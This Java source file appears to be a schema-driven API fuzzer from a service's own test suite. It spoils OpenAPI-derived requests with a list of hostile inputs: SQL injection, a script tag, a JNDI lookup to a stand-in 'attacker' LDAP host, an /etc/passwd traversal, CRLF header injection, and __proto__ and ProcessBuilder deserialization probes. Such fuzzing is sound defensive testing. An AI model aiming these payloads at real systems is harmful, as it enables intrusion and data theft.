package app.ghostresume.system;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.function.Function;

import app.ghostresume.stack.testing.HttpApi;
import app.ghostresume.stack.testing.HttpApi.Answer;
import tools.jackson.databind.JsonNode;

/**
 * Requests drawn from a service's OpenAPI document: for every operation it describes, a request built from the
 * operation's own schemas (its path, query and header parameters and its JSON body, {@code $ref}s resolved), then
 * spoiled in one way the schema says is wrong: a value of another type, a string past its length or with hostile
 * text, a number beyond its bounds, a value outside its enum, a required field left out, an unknown field, a
 * malformed path variable. So an endpoint is fuzzed as soon as it is documented, without a line written for it.
 * The draws come from a seeded {@link Random}, so a failure reproduces.
 */
final class SchemaFuzzer {

    private static final List<String> HOSTILE = List.of("", " ", "'", "' OR '1'='1", "<script>alert(1)</script>",
            "${jndi:ldap://attacker/x}", "../../etc/passwd", "\u0000", "a\u0000b", "\r\nSet-Cookie: x=y",
            "\uD83D\uDC7B", "\uDC00", "NaN", "-1", "1e309", "x".repeat(5001));
    private static final List<Object> OTHER_TYPES = List.of(42, -1, 3.14, true, List.of("a"), Map.of("x", 1),
            "not-a-date", "2026-02-30", "WRONG_ENUM", Long.MAX_VALUE);

    private final HttpApi service;
    private final JsonNode document;
    private final Function<String, String> pathValues;

    /**
     * @param pathValues the value of a path variable by its name (the caller's own attempt, goal, share ...), or
     *                   {@code null} where any will do
     */
    SchemaFuzzer(HttpApi service, JsonNode document, Function<String, String> pathValues) {
        this.service = service;
        this.document = document;
        this.pathValues = pathValues;
    }

    /** Every operation of the document, as {@code METHOD path}, each with its spoiled requests. */
    Map<String, List<Request>> requests(Random random, int perOperation) {
        Map<String, List<Request>> requests = new LinkedHashMap<>();
        document.get("paths").properties().forEach(path -> path.getValue().properties().forEach(entry -> {
            String method = entry.getKey().toUpperCase();
            List<Request> spoiled = new ArrayList<>();
            for (int i = 0; i < perOperation; i++) {
                spoiled.add(spoil(valid(method, path.getKey(), entry.getValue(), random), entry.getValue(), random));
            }
            requests.put(method + " " + path.getKey(), spoiled);
        }));
        return requests;
    }

    private Request valid(String method, String template, JsonNode operation, Random random) {
        Map<String, String> pathVariables = new LinkedHashMap<>();
        Map<String, String> query = new LinkedHashMap<>();
        Map<String, String> headers = new LinkedHashMap<>();
        for (JsonNode parameter : operation.path("parameters")) {
            String name = parameter.get("name").asString();
            JsonNode schema = resolve(parameter.path("schema"));
            switch (parameter.get("in").asString()) {
                case "path" -> {
                    String known = pathValues.apply(name);
                    pathVariables.put(name, known != null ? known : String.valueOf(value(schema, random, 0)));
                }
                case "query" -> {
                    if (parameter.path("required").asBoolean() || random.nextBoolean()) {
                        query.put(name, String.valueOf(value(schema, random, 0)));
                    }
                }
                default -> {
                    // headers (Idempotency-Key, Consistency-Token, Accept) are spoiled below, not drawn
                }
            }
        }
        JsonNode json = operation.path("requestBody").path("content").path("application/json").path("schema");
        Object body = json.isMissingNode() ? null : value(resolve(json), random, 0);
        return new Request(method, template, pathVariables, query, headers, body, "valid");
    }

    private Request spoil(Request valid, JsonNode operation, Random random) {
        List<JsonNode> parameters = new ArrayList<>();
        operation.path("parameters").forEach(parameters::add);
        int choice = random.nextInt(8);
        if (!(valid.body instanceof Map<?, ?> fields) || fields.isEmpty()) {
            choice = 4 + random.nextInt(4); // nothing in a body to spoil: spoil the parameters
        }
        switch (choice) {
            case 0, 1 -> {
                @SuppressWarnings("unchecked")
                Map<String, Object> body = new LinkedHashMap<>((Map<String, Object>) valid.body);
                String field = pick(random, List.copyOf(body.keySet()));
                JsonNode schema = propertySchema(operation, field);
                Object wrong = choice == 0 ? wrongFor(schema, random) : pick(random, HOSTILE);
                body.put(field, wrong);
                return valid.with(body, (choice == 0 ? "against its schema: " : "hostile text in ") + field);
            }
            case 2 -> {
                @SuppressWarnings("unchecked")
                Map<String, Object> body = new LinkedHashMap<>((Map<String, Object>) valid.body);
                String field = pick(random, List.copyOf(body.keySet()));
                body.remove(field);
                return valid.with(body, "without " + field);
            }
            case 3 -> {
                @SuppressWarnings("unchecked")
                Map<String, Object> body = new LinkedHashMap<>((Map<String, Object>) valid.body);
                body.put(pick(random, List.of("seekerId", "__proto__", "@class", "status")),
                        pick(random, List.of(UUID.randomUUID().toString(), "ACCEPTED", "java.lang.ProcessBuilder")));
                return valid.with(body, "unknown field");
            }
            case 4, 5 -> {
                List<JsonNode> query = parameters.stream().filter(p -> p.get("in").asString().equals("query"))
                        .toList();
                if (query.isEmpty()) {
                    return valid.withQuery(Map.of(pick(random, List.of("limit", "cursor", "x")),
                            String.valueOf(pick(random, HOSTILE))), "unknown parameter");
                }
                JsonNode parameter = pick(random, query);
                String name = parameter.get("name").asString();
                Map<String, String> spoiled = new LinkedHashMap<>(valid.query);
                spoiled.put(name, String.valueOf(random.nextBoolean() ? wrongFor(resolve(parameter.path("schema")),
                        random) : pick(random, HOSTILE)));
                return valid.withQuery(spoiled, "parameter " + name + " against its schema");
            }
            case 6 -> {
                Map<String, String> headers = new LinkedHashMap<>();
                headers.put(pick(random, List.of("Idempotency-Key", "Consistency-Token", "Accept", "Content-Type")),
                        pick(random, List.of(" ", "x".repeat(300), "' OR 1=1 --", "é", "a.b", "text/xml",
                                UUID.randomUUID() + ".-1", "text/csv;q=x")));
                return new Request(valid.method, valid.template, valid.pathVariables, valid.query, headers,
                        valid.body, "header " + headers.keySet());
            }
            default -> {
                if (valid.pathVariables.isEmpty()) {
                    return valid.withBody(pick(random, List.of("", "{", "[]", "null", "\"x\"", "{\"a\":}")),
                            "broken body");
                }
                Map<String, String> variables = new LinkedHashMap<>();
                String malformed = pick(random, List.of(UUID.randomUUID().toString(), "not-a-uuid", "..", "%2e%2e",
                        "' OR 1=1", "x".repeat(3000), "00000000-0000-0000-0000-000000000000"));
                valid.pathVariables.keySet().forEach(name -> variables.put(name, malformed));
                return new Request(valid.method, valid.template, variables, valid.query, valid.headers, valid.body,
                        "path variables " + variables.keySet());
            }
        }
    }

    /** A value the schema allows, drawn at random (depth keeps recursive schemas finite). */
    private Object value(JsonNode schema, Random random, int depth) {
        schema = resolve(schema);
        if (schema.has("enum")) {
            List<JsonNode> values = new ArrayList<>();
            schema.get("enum").forEach(value -> {
                if (!value.isNull()) {
                    values.add(value);
                }
            });
            return values.isEmpty() ? null : pick(random, values).asString();
        }
        if (schema.has("anyOf") || schema.has("oneOf")) {
            for (JsonNode option : schema.has("anyOf") ? schema.get("anyOf") : schema.get("oneOf")) {
                if (!"null".equals(type(option))) {
                    return value(option, random, depth);
                }
            }
        }
        String format = schema.path("format").asString("");
        switch (type(schema)) {
            case "object" -> {
                Map<String, Object> object = new LinkedHashMap<>();
                if (depth < 4) {
                    schema.path("properties").properties().forEach(property ->
                            object.put(property.getKey(), value(property.getValue(), random, depth + 1)));
                    if (schema.path("additionalProperties").isObject() && object.isEmpty()) {
                        object.put("JOB", value(schema.get("additionalProperties"), random, depth + 1));
                    }
                }
                return object;
            }
            case "array" -> {
                return depth < 4 ? List.of(value(schema.path("items"), random, depth + 1)) : List.of();
            }
            case "integer", "number" -> {
                long minimum = schema.path("minimum").asLong(1);
                long maximum = schema.path("maximum").asLong(Math.max(minimum, 5));
                return minimum + (long) random.nextInt((int) Math.min(maximum - minimum + 1, 1000));
            }
            case "boolean" -> {
                return random.nextBoolean();
            }
            default -> {
                return switch (format) {
                    case "date" -> LocalDate.now(ZoneOffset.UTC).toString();
                    case "date-time" -> LocalDate.now(ZoneOffset.UTC) + "T00:00:00Z";
                    case "uuid" -> UUID.randomUUID().toString();
                    default -> "fuzz" + random.nextInt(1000);
                };
            }
        }
    }

    /** A value the schema refuses: another type, a string too long, a number out of bounds, not one of the enum. */
    private Object wrongFor(JsonNode schema, Random random) {
        schema = resolve(schema);
        if (schema.has("enum") && random.nextBoolean()) {
            return "NOT_ONE_OF_THEM";
        }
        if (schema.has("maxLength") && random.nextBoolean()) {
            return "x".repeat(schema.get("maxLength").asInt() + 1);
        }
        if (schema.has("maximum") && random.nextBoolean()) {
            return schema.get("maximum").asLong() + 1;
        }
        if (schema.has("minimum") && random.nextBoolean()) {
            return schema.get("minimum").asLong() - 1;
        }
        String type = type(schema);
        List<Object> others = OTHER_TYPES.stream().filter(value -> !fits(value, type)).toList();
        return pick(random, others);
    }

    private static boolean fits(Object value, String type) {
        return switch (type) {
            case "integer" -> value instanceof Integer || value instanceof Long;
            case "number" -> value instanceof Number;
            case "boolean" -> value instanceof Boolean;
            case "array" -> value instanceof List<?>;
            case "object" -> value instanceof Map<?, ?>;
            default -> value instanceof String;
        };
    }

    private JsonNode propertySchema(JsonNode operation, String field) {
        JsonNode body = resolve(operation.path("requestBody").path("content").path("application/json")
                .path("schema"));
        return body.path("properties").path(field);
    }

    private JsonNode resolve(JsonNode schema) {
        JsonNode resolved = schema;
        for (int i = 0; i < 10 && resolved.has("$ref"); i++) {
            String ref = resolved.get("$ref").asString();
            resolved = document.at(ref.substring(1));
        }
        return resolved;
    }

    private static String type(JsonNode schema) {
        JsonNode type = schema.path("type");
        if (type.isArray()) {
            for (JsonNode each : type) {
                if (!each.asString().equals("null")) {
                    return each.asString();
                }
            }
            return "null";
        }
        if (type.isString()) {
            return type.asString();
        }
        return schema.has("properties") ? "object" : "string";
    }

    private static <T> T pick(Random random, List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    /** One request, as it will be sent. */
    final class Request {

        final String method;
        final String template;
        final Map<String, String> pathVariables;
        final Map<String, String> query;
        final Map<String, String> headers;
        final Object body;
        final String kind;

        private Request(String method, String template, Map<String, String> pathVariables, Map<String, String> query,
                Map<String, String> headers, Object body, String kind) {
            this.method = method;
            this.template = template;
            this.pathVariables = pathVariables;
            this.query = query;
            this.headers = headers;
            this.body = body;
            this.kind = kind;
        }

        Request with(Object spoiledBody, String how) {
            return new Request(method, template, pathVariables, query, headers, spoiledBody, how);
        }

        Request withBody(String raw, String how) {
            return new Request(method, template, pathVariables, query, headers, raw, how);
        }

        Request withQuery(Map<String, String> spoiled, String how) {
            return new Request(method, template, pathVariables, spoiled, headers, body, how);
        }

        /** The path as sent, its variables and query encoded. */
        String path() {
            return expand(template, pathVariables, query);
        }

        Answer send(String token) {
            HttpApi.Call call = service.request(method, path(), body);
            if (token != null) {
                call.token(token);
            }
            headers.forEach(call::header);
            return call.send();
        }

        @Override
        public String toString() {
            String shown = body == null ? "" : body instanceof String raw ? raw : HttpApi.json(body);
            return method + " " + template + " [" + kind + "] " + (shown.length() > 160 ? shown.substring(0, 160)
                    + "…" : shown) + " " + query;
        }
    }

    /** A path template with its variables filled in and the query appended, each part encoded. */
    static String expand(String template, Map<String, String> variables, Map<String, String> query) {
        String path = template;
        for (Map.Entry<String, String> variable : variables.entrySet()) {
            path = path.replace("{" + variable.getKey() + "}", encode(variable.getValue()));
        }
        StringBuilder full = new StringBuilder(path);
        String separator = "?";
        for (Map.Entry<String, String> parameter : query.entrySet()) {
            full.append(separator).append(encode(parameter.getKey())).append('=').append(encode(parameter.getValue()));
            separator = "&";
        }
        return full.toString();
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }
}
